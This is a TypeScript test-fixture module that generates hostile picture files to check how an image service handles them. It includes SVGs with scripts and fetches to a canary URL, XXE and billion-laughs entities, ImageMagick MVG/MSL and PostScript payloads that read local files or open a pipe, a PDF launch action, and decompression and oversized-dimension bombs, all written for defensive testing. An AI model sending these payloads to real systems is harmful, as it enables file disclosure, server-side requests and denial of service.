import { deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { atom, chunk, joined, patched, pngChunk, u16be, u16le, u32be, u32le, u64le } from './bytes.js'
import { read, refused, type Canaries, type HostileFiles } from './types.js'

const MOST_32 = 0xffffffff
const PNG = '\x89PNG\r\n\x1a\n'

/** A black PNG of one bit a pixel, with further chunks behind its head. `lines` are its pixels, packed. */
export function png(width: number, height: number, extra: readonly Uint8Array[] = [], lines?: Uint8Array): Buffer {
  const head = joined(u32be(width, height), Uint8Array.of(1, 0, 0, 0, 0))
  const pixels = lines ?? deflateSync(Buffer.alloc(height * (1 + Math.ceil(width / 8))))
  return joined(PNG, pngChunk('IHDR', head), ...extra, pngChunk('IDAT', pixels), pngChunk('IEND', new Uint8Array()))
}

/** The head of a black PNG of so many pixels a side, of which the first lines alone are there. */
export const pngFlood = (side: number): Buffer => png(side, side, [], deflateSync(Buffer.alloc(1_000)))

/** A GIF of so many frames of one pixel. */
export function gif(frames: number): Buffer {
  const head = Buffer.from('47494638396101000100800000000000ffffff21ff0b4e45545343415045322e300301000000', 'hex')
  const frame = Buffer.from('21f90400010000002c0000000001000100000202440100', 'hex')
  return Buffer.concat([head, ...Array.from({ length: frames }, () => frame), Buffer.from(';')])
}

type Entry = readonly [tag: number, value: number, count?: number]
const PIXEL: readonly Entry[] = [[256, 1], [257, 1], [258, 8], [259, 1], [262, 1], [273, 8], [277, 1], [278, 1], [279, 1]] // prettier-ignore

/** A TIFF of so many pages of one pixel; the last names the first as its next with `round`. `odd` takes the place of entries of the same tag. */
export function tiff(
  pages: number,
  { round = false, odd = [] }: { readonly round?: boolean; readonly odd?: readonly Entry[] } = {},
): Buffer {
  const entries = PIXEL.map((usual) => odd.find(([tag]) => tag === usual[0]) ?? usual)
  const size = 2 + entries.length * 12 + 4
  const page = (at: number): Buffer =>
    joined(
      u16le(entries.length),
      ...entries.map(([tag, value, count = 1]) => joined(u16le(tag, 4), u32le(count, value))),
      u32le(at + 1 < pages ? 16 + (at + 1) * size : round ? 16 : 0),
    )
  return joined('II*\0', u32le(16), Buffer.alloc(8), ...Array.from({ length: pages }, (_, at) => page(at)))
}

/** A drawing; `head` precedes it. */
export const svg = (inner: string, head = ''): Buffer =>
  Buffer.from(
    `${head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40">${inner}</svg>`,
  )

/** A document type whose entities multiply: `j` has 200 thousand million characters. */
export const LAUGHS = `<!DOCTYPE svg [<!ENTITY a "${'ha'.repeat(100)}">${'abcdefghi'.split('').map((name, at, all) => `<!ENTITY ${all[at + 1] ?? 'j'} "${`&${name};`.repeat(10)}">`).join('')}]>` // prettier-ignore
/** Groups that use groups: the last has 10^30 squares. */
export const USES = `<g id="a0"><rect width="1" height="1"/></g>${Array.from({ length: 30 }, (_, at) => `<g id="a${String(at + 1)}">${`<use href="#a${String(at)}"/>`.repeat(10)}</g>`).join('')}`

/** What is to be seen of a drawing that is read all the same: a red square on white. */
const SEEN = '<rect width="40" height="40" fill="#fff"/><rect x="10" y="10" width="16" height="16" fill="#c00"/>'

function drawings({ url, file }: Canaries): HostileFiles {
  const here = `file://${file}`
  return {
    'a drawing with scripts': read(
      'svg',
      svg(
        `${SEEN}<script>fetch("${url}/s")</script><script href="${url}/s.js"/><rect width="1" height="1" fill="#fff" onload="fetch('${url}/l')"/>`,
      ),
    ),
    'a drawing with linked pictures': read(
      'svg',
      svg(
        SEEN +
          [`${url}/i.png`, here, file, '../i.svg']
            .map((to) => `<image href="${to}" width="9" height="9"/><image xlink:href="${to}" width="9" height="9"/><use href="${to}#a"/>`)
            .join(''),
      ),
    ),
    'a drawing with linked styles': read(
      'svg',
      svg(
        `<style>@import url("${url}/i.css"); @font-face { font-family: x; src: url("${here}") }</style>${SEEN}`,
        `<?xml-stylesheet href="${url}/x.css"?>`,
      ),
    ),
    'a drawing of a page': read(
      'svg',
      svg(
        `${SEEN}<foreignObject width="40" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${url}/f"/><img xmlns="http://www.w3.org/1999/xhtml" src="${here}"/></foreignObject>`,
      ),
    ),
    'a drawing with entities elsewhere': refused(
      'svg',
      svg(
        `${SEEN}<text y="20">&x;&y;</text>`,
        `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${url}/svg.dtd" [<!ENTITY x SYSTEM "${here}"><!ENTITY y SYSTEM "${url}/y"><!ENTITY % z SYSTEM "${url}/z"> %z;]>`,
      ),
    ),
    'a drawing that includes files': read(
      'svg',
      svg(
        `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${here}" parse="text"/><text y="9"><tref xlink:href="${here}#a"/></text>${SEEN}`,
      ),
    ),
    'a drawing with filters of files': read(
      'svg',
      svg(
        `<filter id="f"><feImage href="${url}/f.png"/><feImage xlink:href="${here}"/></filter>${SEEN}<rect width="1" height="1" fill="#fff" filter="url(#f)"/>`,
      ),
    ),
    'a drawing of entities of entities': refused('svg', svg('<text y="20">&j;</text>', LAUGHS)),
    'a drawing of 100,000 groups, each in the one before': refused('svg', svg(`${'<g>'.repeat(100_000)}${'</g>'.repeat(100_000)}`)),
    'a drawing of 1,000,000 x 1,000,000': refused(
      'svg',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="1000000" height="1000000"/>'),
    ),
    'a packed drawing': refused('svgz', gzipSync(svg(SEEN))),
    'a drawing of ImageMagick': refused(
      'mvg',
      `push graphic-context\nviewbox 0 0 40 40\nimage over 0,0 0,0 'url:${url}/v'\nimage over 0,0 0,0 'text:${file}'\nfill 'url(${url}/f)'\npop graphic-context\n`,
    ),
    'a script of ImageMagick': refused(
      'msl',
      `<?xml version="1.0"?><image><read filename="${file}"/><get url="${url}/m"/><write filename="/tmp/out.png"/></image>`,
    ),
    PostScript: refused('ps', `%!PS\n(${file}) (r) file 100 string readline pop show showpage\n(%pipe%id) (w) file\n`),
    'encapsulated PostScript': refused('eps', `%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 40 40\n(${file}) run\nshowpage\n%%EOF\n`),
    'a PDF that opens a file': refused(
      'pdf',
      `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(${file})>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
    ),
    'a pixmap as text that names a file': refused('xpm', `/* XPM */\nstatic char *x[] = {"1 1 1 1", "a c ${file}", "a"};\n`),
    'a page under the name of a picture': refused('png', `<!doctype html><img src="${url}/p.png"><img src="${here}">`),
  }
}

/** A JPEG with a segment behind its first two bytes. */
const jpegWith = (jpeg: Buffer, ...segments: readonly Uint8Array[]): Buffer => joined(jpeg.subarray(0, 2), ...segments, jpeg.subarray(2))
const segment = (marker: number, data: Uint8Array, size = data.length + 2): Buffer => joined(Uint8Array.of(0xff, marker), u16be(size), data)

/** A progressive JPEG whose last scan comes over and over. */
function endlessScans(jpeg: Buffer, times: number): Buffer {
  const start = jpeg.lastIndexOf(Uint8Array.of(0xff, 0xda))
  const scan = jpeg.subarray(start, -2)
  return joined(jpeg.subarray(0, start), ...Array.from({ length: times }, () => scan), jpeg.subarray(-2))
}

/** A box of ISO media with another value in it, found by its type. */
function boxPatched(file: Buffer, type: string, at: number, bytes: Uint8Array): Buffer {
  const start = file.indexOf(type, 0, 'latin1')
  if (start === -1) throw new Error(`no box ${type}`)
  return patched(file, start + 4 + at, bytes)
}

async function raster(): Promise<HostileFiles> {
  const drawn = sharp(svg(SEEN))
  const [jpeg, progressive, webp, avif, cmyk, deep, plain] = await Promise.all([
    drawn.clone().jpeg().toBuffer(),
    drawn.clone().jpeg({ progressive: true }).toBuffer(),
    drawn.clone().webp({ lossless: true }).toBuffer(),
    drawn.clone().avif({ effort: 0 }).toBuffer(),
    drawn.clone().flatten().toColourspace('cmyk').jpeg({ quality: 100 }).toBuffer(),
    drawn.clone().toColourspace('rgb16').png().toBuffer(),
    drawn.clone().png().toBuffer(),
  ])
  const moving = await sharp([plain, plain], { join: { animated: true } })
    .webp({ lossless: true })
    .toBuffer()
  const bomb = deflateSync(Buffer.alloc(100_000_000))
  const named = (name: string): Buffer => joined(`${name}\0\0`, bomb)
  const withChunks = (...chunks: readonly Uint8Array[]): Buffer => joined(plain.subarray(0, 33), ...chunks, plain.subarray(33))
  const large = gif(1)
  const extended = joined(Uint8Array.of(0, 0, 0, 0), Buffer.from('ffffffffffff', 'hex'))
  return {
    'an empty picture': refused('png', ''),
    'a PNG of 60,000 x 60,000': refused('png', pngFlood(60_000)),
    'a PNG of 2,147,483,647 x 1': refused('png', png(0x7fffffff, 1, [], deflateSync(Buffer.alloc(10)))),
    'a PNG of 0 x 0': refused('png', png(0, 0)),
    'a PNG with a text that unpacks to 100 MB': read('png', withChunks(pngChunk('zTXt', named('a')))),
    'a PNG with a profile of colours that unpacks to 100 MB': read('png', withChunks(pngChunk('iCCP', named('a')))),
    'a PNG with chunks that say they have 4 GiB': refused('png', withChunks(joined(u32be(0x7fffffff), 'tEXt', 'x'))),
    'a PNG that says it moves, in 4,294,967,295 frames': read('png', withChunks(pngChunk('acTL', u32be(MOST_32, 0)))),
    'a JPEG of 65,535 x 65,535': refused('jpg', patched(jpeg, jpeg.indexOf(Uint8Array.of(0xff, 0xc0)) + 5, u16be(65_535, 65_535))),
    'a JPEG of 20,000 scans': refused('jpg', endlessScans(progressive, 20_000)),
    'a JPEG with a profile of colours in 255 parts of which one is there': read(
      'jpg',
      jpegWith(jpeg, segment(0xe2, joined('ICC_PROFILE\0\x01\xff', Buffer.alloc(65_000)))),
    ),
    'a JPEG with EXIF that leads to itself': read(
      'jpg',
      jpegWith(jpeg, segment(0xe1, joined('Exif\0\0II*\0', u32le(8), u16le(1, 0x8769, 4), u32le(1, 8), u32le(8)))),
    ),
    'a JPEG with a segment longer than the file': refused(
      'jpg',
      jpegWith(jpeg.subarray(0, 300), segment(0xe0, Buffer.from('JFIF\0'), 65_535)),
    ),
    'a JPEG of the colours of print (CMYK)': read('jpg', cmyk),
    'a PNG of 16 bits': read('png', deep),
    'a GIF of 65,535 x 65,535': refused(
      'gif',
      patched(patched(large, 6, u16le(65_535, 65_535)), large.indexOf(0x2c, 38) + 5, u16le(65_535, 65_535)),
    ),
    'a GIF of 9,000 frames': read('gif', gif(9_000), '/v1/images/generate'),
    'a GIF whose codes are never cleared': refused(
      'gif',
      joined(large.subarray(0, -6), Uint8Array.of(12), Buffer.alloc(256 * 400, joined(Uint8Array.of(255), Buffer.alloc(255, 0x5a))), '\0;'),
    ),
    'a TIFF of pages in a ring': read('tiff', tiff(5, { round: true }), '/v1/images/generate'),
    'a TIFF of 4,294,967,295 x 4,294,967,295': refused('tiff', tiff(1, { odd: [[256, MOST_32], [257, MOST_32]] })), // prettier-ignore
    'a TIFF of 4,294,967,295 strips': refused('tiff', tiff(1, { odd: [[273, 8, MOST_32], [279, 8, MOST_32]] })), // prettier-ignore
    'a BigTIFF that leads behind its end': refused('tiff', joined('II', u16le(43, 8, 0), u64le(2n ** 62n))),
    'a WebP that says it has 4 GiB': refused('webp', patched(webp.subarray(0, 60), 4, u32le(0xfffffff6))),
    'a WebP of 16,777,216 x 16,777,216': refused('webp', chunk('RIFF', joined('WEBP', chunk('VP8X', extended), webp.subarray(12)))),
    'a WebP that moves': read('webp', moving),
    'an AVIF of 4,294,967,295 x 4,294,967,295': refused('avif', boxPatched(avif, 'ispe', 4, u32be(MOST_32, MOST_32))),
    'an AVIF whose items are behind its end': refused('avif', boxPatched(avif, 'iloc', 0, Buffer.alloc(30, 0xff))),
    'a HEIF of another codec': refused('heic', joined(atom('ftyp', 'heic', u32be(0), 'mif1heic'), atom('meta', Buffer.alloc(40)))),
    'a JPEG 2000': refused('jp2', joined(u32be(12), 'jP  \r\n\x87\n', atom('ftyp', 'jp2 ', u32be(0), 'jp2 '))),
    'a bitmap as text of 99,999 x 99,999': refused('ppm', 'P6 99999 99999 255\n\0\0\0'),
    'an icon': refused('ico', joined(u16le(0, 1, 1), Buffer.alloc(16))),
    'a picture with a page behind': read('png', joined(plain, '<script>alert(1)</script>')),
  }
}

/** Pictures that harm who reads them. Those that are read show a red square on white. */
export async function hostilePictures(canaries: Canaries): Promise<HostileFiles> {
  return { ...drawings(canaries), ...(await raster()) }
}
